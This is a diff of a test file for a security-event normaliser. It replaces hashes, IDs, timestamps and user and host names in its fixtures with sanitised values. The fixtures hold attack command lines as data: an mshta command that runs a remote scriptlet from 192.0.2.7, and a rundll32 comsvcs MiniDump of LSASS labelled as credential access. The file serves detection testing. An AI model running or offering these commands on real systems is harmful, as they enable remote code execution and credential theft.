@@ -89,10 +89,10 @@ describe('normalize: one test per source shape', () => {
         working_directory: 'C:\\Users\\alice\\',
         pe: { original_file_name: 'PowerShell.EXE' },
         hash: {
-          md5: '7353F60B1739074EB17C5F4DDDEFE239',
-          sha1: '6CBCE4A295C163791B60FC23D285E6D84F28EE4C',
-          sha256: 'DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C',
-          imphash: '741776AACCFC5B71FF59832DCDCACE0F',
+          md5: 'F7464182EDEE5DAE02D5B3A526B16426',
+          sha1: '8756C4B82B6C2CF7632F03318EAFF586187147DA',
+          sha256: '40587258AD5F9427AD10E011F000023A007EC08EB1D39A07F79C690685529D82',
+          imphash: 'C518E11E66316958BF83E5AB48998920',
         },
         integrity_level: 'Medium',
         Ext: { token: { integrity_level_name: 'medium' } },
@@ -204,13 +204,13 @@ describe('normalize: one test per source shape', () => {
         executable: 'C:\\Windows\\System32\\mshta.exe',
         command_line: '"C:\\Windows\\System32\\mshta.exe" "javascript:a=GetObject(\'script:http://192.0.2.7/x.sct\').Exec();close()"',
         pid: 3852,
-        entity_id: '{365ABB72-7CF0-5C91-0000-0010E9E71B00}',
+        entity_id: '{7E5A1C03-7CF0-5C91-0000-0010E9E71B00}',
         working_directory: 'C:\\Users\\IEUser\\Desktop\\',
         hash: {
-          md5: 'ABDFC692D9FE43E2BA8FE6CB5A8CB95A',
-          sha1: 'D4F0397F83083E1C6FB0894187CC72AEBCF2F34F',
-          sha256: '949485BA939953642714AE6831D7DCB261691CAC7CBB8C1A9220333801F60820',
-          imphash: '00B1859A95A316FD37DFF4210480907A',
+          md5: 'ABF5E7475F5A6A7252F46ED3C4622761',
+          sha1: '050300251F92F569352C914F84C25FF1E0A166A3',
+          sha256: '5E950BFBC10B0B8B45744E05389874C73B3E22C558A92C0DAD46DBC341346563',
+          imphash: 'CECC59DDAF93AAB82A3EDA987491D8F7',
         },
         integrity_level: 'High',
         Ext: { token: { integrity_level_name: 'high' } },
@@ -219,7 +219,7 @@ describe('normalize: one test per source shape', () => {
           executable: 'C:\\Windows\\System32\\cmd.exe',
           command_line: 'cmd.exe /c start mshta.exe',
           pid: 3084,
-          entity_id: '{365ABB72-7CEF-5C91-0000-00105FD71B00}',
+          entity_id: '{7E5A1C03-7CEF-5C91-0000-00105FD71B00}',
         },
       },
     });
@@ -287,26 +287,26 @@ describe('normalize: one test per source shape', () => {
     const e = eventOf('ecs-flat.json');
     expect(e.shape).toBe('ecs');
     expect(e.event).toEqual({
-      '@timestamp': '2020-09-21T19:44:00.337Z',
+      '@timestamp': '2026-10-05T09:12:44.517Z',
       event: { ...START, code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
-      host: { name: 'WORKSTATION5.theshire.local' },
-      user: { name: 'pgustavo', domain: 'THESHIRE', id: 'S-1-5-21-4228717743-1032521047-1810997296-1104' },
+      host: { name: 'WS-0188.example.corp' },
+      user: { name: 'mira.kovacs', domain: 'EXAMPLE', id: 'S-1-5-21-1004336348-1177238915-682003330-1188' },
       process: {
         name: 'rundll32.exe',
         executable: 'C:\\Windows\\System32\\rundll32.exe',
-        command_line: '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
-        pid: 5944,
+        command_line: '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\m.dmp full',
+        pid: 4112,
         integrity_level: 'High',
         Ext: { token: { elevation: true, elevation_type: 'full', integrity_level_name: 'high' } },
         parent: {
           name: 'powershell.exe',
           executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-          pid: 7312,
+          pid: 4388,
           reconstructed: true,
         },
       },
       label: { value: 'malicious', method: 'otrf_adversary_view_names_process', technique: ['T1003.001'] },
-      labels: { dataset: 'fixture', recording: 'fixture/credential_access/lsass_dump.json', recording_kind: 'attack' },
+      labels: { case: 'fixture-credential-access', kind: 'attack' },
     });
   });
 
